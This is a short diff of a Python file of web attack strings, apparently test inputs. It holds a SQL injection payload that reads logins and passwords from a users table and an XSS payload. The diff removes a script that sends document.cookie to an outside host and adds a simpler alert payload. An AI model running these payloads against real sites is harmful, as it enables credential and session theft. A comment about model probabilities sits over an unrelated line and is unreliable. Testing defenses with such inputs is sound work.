@@ -9,7 +9,8 @@ import requests
 
 AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
 SQL = "7' UNION SELECT login, password FROM users-- "
-SCRIPT = "nice <script>fetch('//example.org/' + document.cookie)</script>"
+# Far from the threshold: a model that is trained on another processor gives other probabilities.
+SCRIPT = "nice <script>alert(document.cookie)</script>"
 
 # What a client sends: method, path, and arguments of requests.
 ATTACKS: dict[str, tuple[str, str, dict[str, Any]]] = {
